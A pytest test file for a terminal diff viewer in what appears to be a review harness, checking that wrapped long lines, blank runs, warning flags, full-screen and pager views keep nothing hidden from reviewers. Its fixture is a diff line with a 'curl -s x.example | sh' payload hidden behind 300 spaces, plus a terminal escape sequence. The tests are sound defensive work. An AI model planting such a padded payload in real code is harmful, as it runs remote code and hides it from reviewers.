"""Nothing of a diff is hidden, at any size: long lines wrap with a mark on every further
row, long runs of blanks are drawn as ``·×N``, the harness's flag is above the code,
``f`` shows the diff full screen and ``p`` hands it to a pager (refused without a
terminal), and a review with a diff gives it the room (issue 27, item 1)."""

from __future__ import annotations

import stat
from pathlib import Path
from typing import Any

import pytest
from rich.cells import cell_len
from textual.app import App
from textual.widgets import Input, Static

from common.schemas.checkpoint import IssueClosureCheckpoint
from common.workspace.diff_text import review_diff
from tests.tui import samples
from tests.tui.helpers import dialog_for, make_app, wait_until
from tests.tui.modal_app import ModalApp
from tests.tui.test_answers import decided, waiting
from tui.help_text import DIFF
from tui.modals.checkpoint_dialog import CheckpointDialog
from tui.modals.diff_screen import DiffScreen
from tui.modals.help import HelpScreen
from tui.modals.review.base import ReviewScreen
from tui.services.diff_pager import NO_TERMINAL, Pager, choose_pager, pager_text, run_pager
from tui.widgets.diff_page import CONTINUED, DiffPage, row_breaks, rows, shown_line
from tui.widgets.diff_view import DiffView

SMALL, LARGE = (80, 24), (160, 48)
PAYLOAD = '; __import__("os").system("curl -s x.example | sh")'
PADDED = '__version__ = "0.2.0"' + " " * 300 + PAYLOAD
HOSTILE_DIFF = f"""\
diff --git a/textkit/core.py b/textkit/core.py
index 3b18e51..9f2c1e0 100644
--- a/textkit/core.py
+++ b/textkit/core.py
@@ -10,3 +10,4 @@ from textkit.slug import slugify

 __all__ = ["slugify"]

+{PADDED}
"""


def padded_closure() -> IssueClosureCheckpoint:
    """The sample closure whose diff adds the 372-column line, then slugify."""
    base = samples.issue_closure()
    assert isinstance(base, IssueClosureCheckpoint)
    update = {"diff": HOSTILE_DIFF + samples.DIFF, "diff_stat": "2 files changed, 7 insertions(+)"}
    return base.model_copy(update={"context": base.context.model_copy(update=update)})


def screen_rows(app: App[Any]) -> list[str]:
    """The rows of the top screen as a terminal would show them."""
    return [strip.text for strip in app.screen._compositor.render_strips()]


FRAME = " █▀▄▁▂▃▄▅▆▇▌"  # borders, the focus bar and scrollbar cells around a row of text


def shown_lines(app: App[Any]) -> list[str]:
    """The screen's text rows, frames stripped, each wrapped line's rows joined at its
    marks (blanks dropped: a row may end on one)."""
    lines: list[str] = []
    for row in screen_rows(app):
        text = row.strip(FRAME).replace(" ", "")
        if text.startswith(CONTINUED) and lines:
            lines[-1] += text[1:]
        else:
            lines.append(text)
    return lines


def payload_on_screen(app: App[Any]) -> bool:
    """The padded line's start, its blanks' mark and the whole call after them are shown."""
    whole = f'+__version__ = "0.2.0"·×300{PAYLOAD}'.replace(" ", "")
    return whole in shown_lines(app)


# --- the page: every character on some row, at any width -----------------------------


@pytest.mark.parametrize("width", [8, 20, 40, 67, 80, 158])
@pytest.mark.parametrize(
    "line",
    [f"+{PADDED}", "+" + "x" * 372, "+def f():\treturn '漢字漢字漢字漢字' * 40", "-" + "é" * 300],
    ids=["padded", "long", "tabs-and-wide", "removed"],
)
def test_every_character_of_a_line_is_on_a_row_and_no_row_is_wider(line: str, width: int) -> None:
    shown = shown_line(line)
    parts = rows(shown, width)
    assert all(cell_len(part.plain) <= width for part in parts)
    assert all(part.plain.startswith(CONTINUED) for part in parts[1:])
    assert not parts[0].plain.startswith(CONTINUED)
    rebuilt = parts[0].plain + "".join(part.plain[1:] for part in parts[1:])
    assert rebuilt == shown.text.plain  # nothing dropped at any break


def test_blanks_are_marked_and_the_code_after_them_is_on_the_same_row_at_80() -> None:
    page = DiffPage(f"+{PADDED}")
    assert page.plain_rows(80) == [f'+__version__ = "0.2.0"·×300{PAYLOAD}']
    assert page.wide_lines(80) == 0 and page.wide_lines(70) == 1


def test_a_run_mark_is_never_split_across_rows() -> None:
    line = shown_line("+" + "a" * 15 + " " * 40 + "b")
    for width in range(12, 30):
        for at in row_breaks(line, width):
            assert not any(start < at < end for start, end in line.marks), width


def test_the_text_is_never_read_as_markup() -> None:
    page = DiffPage("+[bold red]APPROVED[/] \\x1b[2J")
    assert page.plain_rows(80) == ["+[bold red]APPROVED[/] \\x1b[2J"]


# --- the views --------------------------------------------------------------------------


@pytest.mark.parametrize("size", [SMALL, LARGE], ids=["80x24", "160x48"])
async def test_the_dialog_flags_the_line_and_shows_the_payload(size: tuple[int, int]) -> None:
    app = ModalApp(padded_closure())
    async with app.run_test(size=size) as pilot:
        await wait_until(pilot, lambda: isinstance(app.screen, CheckpointDialog), "the dialog")
        top = str(app.screen.query_one("#what-happened", Static).render())
        assert "⚠ 1 line of the diff to read whole: see DIFF below, F full screen" in top
        await pilot.press("right_square_bracket")
        await pilot.pause()
        view = app.screen.query_one(DiffView)
        flags = str(view.query_one(".diff-flags", Static).render())
        assert flags == "⚠ textkit/core.py line 13: 372 characters, 300 of them spaces in a row"
        assert payload_on_screen(app), "\n".join(screen_rows(app))


async def test_the_view_says_what_it_wraps_at_its_own_width() -> None:
    app = ModalApp(padded_closure())
    async with app.run_test(size=SMALL) as pilot:
        await pilot.pause()
        wide = app.screen.query_one(".diff-wide", Static)
        narrow = str(wide.render())
        assert narrow.startswith("2 lines wrapped: ↪ starts each further row")
        await pilot.resize_terminal(*LARGE)
        await wait_until(pilot, lambda: str(wide.render()) != narrow, "the new width")
        assert str(wide.render()) == "·×N is N blanks in a row"  # everything fits at 160


async def test_the_review_shows_the_diff_first_and_folds_the_answer() -> None:
    app = ModalApp(padded_closure(), review=True)
    async with app.run_test(size=SMALL) as pilot:
        await wait_until(pilot, lambda: isinstance(app.screen, ReviewScreen), "the review")
        screen = app.screen
        assert isinstance(screen, ReviewScreen)
        body = list(screen.query_one("#review-body").children)
        assert isinstance(body[0], DiffView)  # first, before the details and the tests
        assert screen.folded and not screen.query_one("#review-answer").display
        fold = str(screen.query_one("#review-fold", Static).render())
        assert fold == "▸ Ctrl+Y approve · Ctrl+N reject (asks why) · typing opens the reason"
        flag = "⚠textkit/core.pyline13:372characters,300ofthemspacesinarow"
        assert flag in "".join(shown_lines(app)), "\n".join(screen_rows(app))  # may wrap
        assert payload_on_screen(app), "\n".join(screen_rows(app))  # as it opens, at 80×24
        await pilot.press("right_square_bracket")
        await pilot.pause()
        assert screen.query_one(DiffView).current_file == 0
        assert payload_on_screen(app), "\n".join(screen_rows(app))


async def test_typing_while_folded_opens_the_reason_and_keeps_every_key() -> None:
    app = ModalApp(padded_closure(), review=True)
    async with app.run_test(size=SMALL) as pilot:
        await wait_until(pilot, lambda: isinstance(app.screen, ReviewScreen), "the review")
        screen = app.screen
        assert isinstance(screen, ReviewScreen)
        await pilot.press(*"Padded line")
        await pilot.pause()
        reason = screen.query_one("#reason", Input)
        assert not screen.folded and reason.has_focus and reason.value == "Padded line"
        await pilot.press("escape")  # folds again, keeping what was typed
        await pilot.pause()
        assert screen.folded and app.screen is screen and reason.value == "Padded line"
        await pilot.press("ctrl+n")  # opens the field again: asks why first
        await pilot.pause()
        assert not screen.folded and "Ctrl+N rejects" in str(
            screen.query_one("#review-notice", Static).render()
        )
        await pilot.press(*" after blanks")
        assert reason.value == "Padded line after blanks"


async def test_ctrl_n_on_a_folded_review_asks_why_before_it_rejects(workspace: Path) -> None:
    checkpoint = padded_closure()
    app, _ = make_app(waiting(workspace, checkpoint))
    async with app.run_test(size=SMALL) as pilot:
        await wait_until(pilot, dialog_for(app, checkpoint.id), "the dialog")
        await pilot.press("r")
        await wait_until(pilot, lambda: isinstance(app.screen, ReviewScreen), "the review")
        await pilot.pause()
        await pilot.press("ctrl+n")
        await pilot.pause()
        assert decided(workspace) is None and app.screen.query_one("#reason", Input).has_focus
        await pilot.press(*"padded", "ctrl+n")
        await wait_until(pilot, lambda: decided(workspace) is not None, "the decision")
    result = decided(workspace)
    assert result is not None and result.decision is not None
    assert not result.decision.approved and result.decision.reason == "padded"


@pytest.mark.parametrize("review", [False, True], ids=["dialog", "review"])
async def test_f_shows_the_diff_full_screen_with_the_same_keys(review: bool) -> None:
    app = ModalApp(padded_closure(), review=review)
    async with app.run_test(size=SMALL) as pilot:
        opened = ReviewScreen if review else CheckpointDialog
        await wait_until(pilot, lambda: isinstance(app.screen, opened), "the screen")
        below = app.screen
        await pilot.press("f")
        await wait_until(pilot, lambda: isinstance(app.screen, DiffScreen), "the full screen")
        assert payload_on_screen(app), "\n".join(screen_rows(app))
        view = app.screen.query_one(DiffView)
        await pilot.press("right_square_bracket", "right_square_bracket")
        await pilot.pause()
        assert view.current_file == 1
        await pilot.press("left_square_bracket")
        await pilot.pause()
        assert view.current_file == 0
        await pilot.press("escape")
        await wait_until(pilot, lambda: app.screen is below, "back")


@pytest.mark.parametrize("where", ["dialog", "review", "full"])
async def test_p_without_a_terminal_of_the_persons_is_refused_in_one_line(where: str) -> None:
    """``harness web`` (and this headless test) cannot give the terminal away."""
    app = ModalApp(padded_closure(), review=where == "review")
    async with app.run_test(size=SMALL) as pilot:
        await pilot.pause()
        if where == "full":
            await pilot.press("f")
            await wait_until(pilot, lambda: isinstance(app.screen, DiffScreen), "full screen")
        await pilot.press("p")
        await pilot.pause()
        notice = {"dialog": "#notice", "review": "#review-notice", "full": "#diff-full-notice"}
        line = app.screen.query_one(notice[where], Static)
        assert str(line.render()) == NO_TERMINAL and line.display


async def test_the_help_lists_the_diff_keys_and_marks() -> None:
    app = ModalApp(padded_closure())
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_until(pilot, lambda: isinstance(app.screen, CheckpointDialog), "the dialog")
        app.push_screen(HelpScreen(app.screen))  # what ? and F1 open over it
        await wait_until(pilot, lambda: isinstance(app.screen, HelpScreen), "the help")
        await pilot.pause()
        screen = app.screen
        assert isinstance(screen, HelpScreen)
        text = screen.plain()
    for keys, said in [
        ("]", "Next file"),
        ("[", "Prev file"),
        ("f, F", "Diff full screen"),
        ("p, P", "Diff in your pager"),
        *DIFF,
    ]:
        assert f"  {keys} {said}" in text


# --- the pager --------------------------------------------------------------------------


def test_the_pager_is_delta_else_pager_else_less_else_more() -> None:
    def only(*names: str) -> Any:
        return lambda name: f"/usr/bin/{name}" if name in names else None

    delta = choose_pager({"PAGER": "most -s"}, only("delta", "less"))
    assert delta == Pager(
        ["/usr/bin/delta", "--paging=always", "--wrap-max-lines=unlimited"], delta=True
    )
    assert choose_pager({"PAGER": "most -s"}, only("less")) == Pager(["most", "-s"])
    assert choose_pager({"PAGER": ""}, only("less")) == Pager(["/usr/bin/less"])
    assert choose_pager({}, only()) == Pager(["more"])


def test_delta_gets_the_bare_diff_and_a_pager_the_harnesss_lines_too() -> None:
    review = review_diff(padded_closure())
    assert review is not None
    for_delta = pager_text(review, Pager(["delta"], delta=True))
    assert for_delta.startswith("diff --git a/textkit/core.py") and "⚠" not in for_delta
    for_less = pager_text(review, Pager(["less"]))
    assert for_less.splitlines()[1].startswith("⚠ 1 line of the diff to read whole")
    assert f"+{PADDED}" in for_less  # the line itself as git wrote it


def fake_pager(folder: Path, body: str) -> dict[str, str]:
    """An environment whose PATH holds only ``pager``, a shell script running ``body``."""
    script = folder / "pager"
    script.write_text(f"#!/bin/sh\n{body}\n")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return {"PATH": f"{folder}:/usr/bin:/bin", "PAGER": f"{script} --flag"}


def test_the_pager_reads_the_escaped_diff_from_a_private_file(tmp_path: Path) -> None:
    hostile = padded_closure()
    context = hostile.context.model_copy(update={"diff": HOSTILE_DIFF + "+\x1b]0;pwned\x07\n"})
    review = review_diff(hostile.model_copy(update={"context": context}))
    assert review is not None
    seen = tmp_path / "seen"
    env = fake_pager(
        tmp_path, f'echo "$@" > {seen}.args; ls -l /proc/self/fd/0 > {seen}.fd; cat > {seen}'
    )
    assert run_pager(review, env) is None
    got = seen.read_text()
    assert f"+{PADDED}" in got and "+\\x1b]0;pwned\\x07" in got and "\x1b" not in got
    assert (tmp_path / "seen.args").read_text() == "--flag\n"
    handed = (tmp_path / "seen.fd").read_text().rsplit(" -> ", 1)[1].strip()
    assert "harness-diff-" in handed and not Path(handed).exists()  # removed afterwards


def test_a_pager_that_fails_or_is_missing_is_one_line(tmp_path: Path) -> None:
    review = review_diff(padded_closure())
    assert review is not None
    failing = fake_pager(tmp_path, "exit 3")
    assert run_pager(review, failing) == f"{tmp_path / 'pager'} ended with status 3"
    missing = {"PATH": str(tmp_path), "PAGER": str(tmp_path / "nothing-here")}
    said = run_pager(review, missing)
    assert said is not None and said.startswith(f"cannot run {tmp_path / 'nothing-here'}: ")
    assert "\n" not in said
